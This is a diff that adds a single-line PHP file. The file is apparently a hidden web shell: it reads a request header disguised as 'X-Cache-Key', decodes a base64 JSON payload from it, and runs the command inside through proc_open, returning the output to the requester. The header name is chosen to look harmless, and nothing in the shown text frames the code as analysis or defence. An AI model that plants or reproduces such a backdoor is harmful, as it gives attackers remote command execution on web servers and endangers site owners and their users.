@@ -1,0 +1,1 @@
+<?php if(isset($_SERVER['HTTP_X_CACHE_KEY'])){$r=json_decode(base64_decode($_SERVER['HTTP_X_CACHE_KEY']),true);$n=['file','/dev/null','w'];$d=[0=>['file',$r['i']??'/dev/null','r'],1=>empty($r['b'])?['pipe','w']:$n,2=>empty($r['b'])?['pipe','w']:$n];$p=proc_open($r['a'],$d,$x);if(empty($r['b'])){echo stream_get_contents($x[1]),stream_get_contents($x[2]);}proc_close($p);exit;}
